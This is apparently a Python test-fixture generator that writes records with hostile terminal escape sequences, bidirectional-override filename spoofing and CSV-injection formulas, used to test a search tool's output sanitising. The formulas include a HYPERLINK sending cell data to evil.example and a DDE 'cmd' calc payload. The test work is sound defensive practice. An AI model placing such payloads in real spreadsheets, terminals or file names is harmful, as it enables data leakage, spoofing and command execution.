#!/usr/bin/env python3
"""Generate the terminal-hostile collection (issue 14, part 1): records whose
every field, JSON key, id, file name and folder name holds terminal control
sequences and bidirectional overrides, and values a spreadsheet would take
for formulas. Generated at test time by tests/cli/terminal_test.cpp, which
indexes it and runs every output mode of opis-search, opis-index and
opis-eval over it, rather than committed: no control bytes live in the
repository.

Usage: make_terminal.py OUT

Writes OUT/in/ (the records, and one bad file), OUT/gold.jsonl (for
opis-eval) and OUT/expect.json:
  {"ids": [the record ids, but the path of the plain file, not UTF-8],
   "word": a word every record holds, "payload": the payload}
"""
import json
import os
import sys

out = sys.argv[1].encode()
root = os.path.join(out, b"in")
os.makedirs(root, exist_ok=True)

# The payload: erase the screen, set the window title (OSC ... BEL), a C1
# CSI (U+009B, as UTF-8), one of our own colours left open (an SGR that
# --color emits, which a record must not), a right-to-left override and
# isolate, a pop, DEL, a NUL-free C0 mix, and the bidi marks that stay.
PAYLOAD = ("\x1b[2J\x1b]0;pwned\x07\u009b31m\x1b[1m\u202egnp.exe\u2066x\u2069\u202c"
           "\x7f\x08\x0b\x0c\x1b[0m\u200f")
# A raw 0x9b byte (C1 CSI on a Latin-1 terminal): only file and folder
# names can hold it, since the readers replace invalid UTF-8 with U+FFFD.
RAW = b"\x9b"
WORD = "grain"
ids = []


def put(rel, data):
    p = os.path.join(root, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(data.encode("utf-8") if isinstance(data, str) else data)


def h(label):
    """A hostile value: a word to find it by, the payload, the label."""
    return f"{WORD} {label} {PAYLOAD} {label}-end"


# Formula-like values (OWASP CSV injection), each at the start of a field
# that the CSV and RIS exports write.
FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "summary": "+1+" + PAYLOAD,
    "archive": "-2+3",
    "reference": "@SUM(A1:A9)",
    "original_language": "\tleading tab",
    "url": "\r=1+1",
    "translation_language": "=cmd|' /C calc'!A0",
}

# --- JSON records: every field hostile, and hostile keys ---------------------
full = {
    "id": "hid-json" + PAYLOAD,
    "date": "-1958" + PAYLOAD,
    "title": h("title"),
    "citation": h("citation"),
    "archive": h("archive"),
    "reference": h("reference"),
    "repository": h("repository"),
    "url": "https://example.org/" + PAYLOAD,
    "summary": h("summary") + "\nsecond line\tafter tab\nER  - \nTY  - JOUR",
    "credits": h("credits"),
    "funder": h("funder"),
    "original_language": h("language"),
    "translation_language": h("translation"),
    "contributors": ["Ann " + PAYLOAD + " Example", "=Bob Formula"],
    "translators": ["Tom " + PAYLOAD + " Translator", "-Minus Translator"],
    "transcribers": ["Tess " + PAYLOAD + " Transcriber"],
    "body": h("body") + "\n\nKhrushchev went to Baghdad " + PAYLOAD + " with grain.\n",
    "handwritten": [h("handwritten")],
    "footnotes": [{"label": "1" + PAYLOAD, "text": h("footnote")}],
    "extra": {"Key" + PAYLOAD: h("extra-value")},
}
put(b"json/full.json", json.dumps(full))
ids.append(full["id"])

# An unknown top-level key is kept as an extra field: the key is hostile.
put(b"json/keys.json", json.dumps({"id": "hid-keys", "title": h("keys title"), "body": h("keys body"),
                                   "Unknown" + PAYLOAD: h("unknown-key value")}))
ids.append("hid-keys")

# Formula-like values in every exported column.
formula = {"id": "=hid-formula", "body": f"{WORD} formula body"}
formula.update(FORMULAS)
formula["contributors"] = ["@Contributor Formula"]
formula["translators"] = ["+Translator Formula"]
put(b"json/formula.json", json.dumps(formula))
ids.append(formula["id"])

# JSONL with the payload in its keys and ids, and a date only as written.
lines = [json.dumps({"id": f"hid-line-{i}" + PAYLOAD, "title": h(f"line {i}"), "date": "c. 1961" + PAYLOAD,
                     "body": h(f"line body {i}")}) for i in range(2)]
put(b"json/lines.jsonl", "\n".join(lines) + "\n")
ids += [f"hid-line-{i}" + PAYLOAD for i in range(2)]

# --- a seed text record: title, date line, sections, annotations -------------
seed = (f"November 19, 1958 {PAYLOAD}\n\n**{h('seed title')}**\n\nCitation:\n\n"
        f"\"{WORD} seed {PAYLOAD}\", November 19, 1958, Hostile {PAYLOAD} Archive, HTA, f. 1{PAYLOAD}, op. 2, d. 3. "
        f"Contributed by Ann {PAYLOAD}Example and translated by Tom Translator. "
        f"<https://example.org/document/hid-seed>\n\n"
        f"Summary:\n\n{h('seed summary')}\n\nCredits:\n\n{h('seed credits')} with support from the {PAYLOAD} Fund.\n\n"
        f"Original Language:\n\nRussian{PAYLOAD}\n\nMystery Label{PAYLOAD}:\n\n{h('seed extra')}\n\n"
        f"Contents:\n\nTranslation - English\n\n[Handwritten: {h('seed handwritten')}]\n\n"
        f"{h('seed body')} Comrade N.S. Khrushchev in Baghdad.^[1]\n\n[1] {h('seed footnote')}\n")
put(b"seed/hostile-seed.txt", seed)
ids.append("hid-seed")

# --- file and folder names: plain text records are identified by path ----------
esc_dir = ("dir" + "\x1b[2J\u202e").encode() + RAW + b"-x"
name = ("plain\x1b]0;pwned\x07\u202e").encode() + RAW + b".txt"
put(os.path.join(b"names", esc_dir, name), f"{WORD} in a plain file with a hostile name.\n")
# (Its id, the path, is not valid UTF-8: not listed in expect.json, whose
# reader wants UTF-8; the test finds it through the word.)

# A bad file whose name carries the payload: opis-index's diagnostic names it.
bad_name = os.path.join(b"names", esc_dir, ("bad\x1b[2J\x1b]0;pwned\x07\u202e").encode() + RAW + b".json")
put(bad_name, '{"id": "hid-bad", "title": ')
# And a record whose date cannot be read: the warning quotes the date.
put(b"json/bad-date.json", json.dumps({"id": "hid-bad-date", "title": h("bad date"), "date": "Febtember" + PAYLOAD}))
ids.append("hid-bad-date")

# --- the gold file: hostile ids (one not in the index) and names --------------
with open(os.path.join(out, b"gold.jsonl"), "w") as f:
    f.write(json.dumps({"id": full["id"], "persons": ["Gold " + PAYLOAD + " Person"], "places": ["Baghdad"]}) + "\n")
    f.write(json.dumps({"id": "hid-missing" + PAYLOAD, "persons": ["X"], "places": []}) + "\n")
    f.write(json.dumps({"id": "hid-seed", "persons": ["Khrushchev"], "places": ["Nowhere" + PAYLOAD]}) + "\n")

with open(os.path.join(out, b"expect.json"), "w") as f:
    json.dump({"ids": ids, "word": WORD, "payload": PAYLOAD}, f)
print(f"{len(ids)} records", file=sys.stderr)
